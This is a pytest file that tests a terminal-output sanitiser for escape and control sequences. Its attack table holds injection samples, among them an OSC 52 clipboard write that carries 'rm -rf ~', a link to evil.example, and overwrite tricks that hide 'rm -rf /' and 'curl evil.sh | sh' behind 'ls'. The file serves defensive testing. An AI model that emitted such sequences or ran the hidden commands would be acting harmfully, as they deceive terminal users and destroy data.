import json
from dataclasses import dataclass

import pytest

from gemloom.terminal import json_text, visible, visible_data

ATTACKS = {
    "osc52 clipboard write": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "osc8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "csi screen clear": "\x1b[2J\x1b[H",
    "csi cursor up and erase line": "\x1b[1A\x1b[2K",
    "bare escape": "\x1b",
    "c1 csi": "\x9b2J",
    "c1 osc": "\x9d52;c;aGk=\x9c",
    "bell": "\x07",
    "backspace overwrite": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls     ",
    "carriage return overwrite": "curl evil.sh | sh\rls                ",
    "delete": "\x7f",
    "nul": "\x00",
    "vertical tab and form feed": "\x0b\x0c",
    "dcs": "\x1bP1$r0m\x1b\\",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_control_character_survives(attack: str) -> None:
    shown = visible(f"before {attack} after")
    assert not any(ord(c) < 0x20 and c not in "\n\t" for c in shown)
    assert not any(0x7F <= ord(c) < 0xA0 for c in shown)
    assert shown.startswith("before ") and shown.endswith(" after")


def test_sequences_are_made_visible_not_hidden() -> None:
    assert visible("a\x1b]52;c;aGk=\x07b") == "a␛]52;c;aGk=␇b"
    assert visible("\x1b[2J") == "␛[2J"
    assert visible("x\x08y") == "x␈y"
    assert visible("\x9b2J") == "\\x9b2J"
    assert visible("lone\rreturn") == "lone␍return"


def test_ordinary_text_is_unchanged() -> None:
    text = "Résumé:\n\t- naïve café ✓ 東京 🙂\n  `code` [y]es \\x1b\n"
    assert visible(text) == text
    assert visible("windows\r\nline ends\r\n") == "windows\nline ends\n"
    assert visible("") == ""


@dataclass
class Event:
    call_id: str
    arguments: dict
    parts: list
    count: int = 0


def test_visible_data_cleans_a_copy_of_every_string() -> None:
    event = Event("c\x1b1", {"path\x07": ["\x1b[2J", ("\x9b", 3)]}, ["ok\n"], 7)
    shown = visible_data(event)
    assert shown == Event("c␛1", {"path␇": ["␛[2J", ("\\x9b", 3)]}, ["ok\n"], 7)
    assert event.arguments == {"path\x07": ["\x1b[2J", ("\x9b", 3)]}  # the original is untouched
    assert visible_data(None) is None and visible_data(3.5) == 3.5


def test_json_text_escapes_controls_and_parses_back_equal() -> None:
    value = {"content": "a\x1b[2J\x9b31m\x7f\tb ✓", "n\x9d": [1]}
    text = json_text(value, indent=2)
    assert visible(text) == text  # nothing left for a terminal to act on
    assert "\\u001b[2J\\u009b31m\\u007f\\tb ✓" in text and "\\u009d" in text
    assert json.loads(text) == value
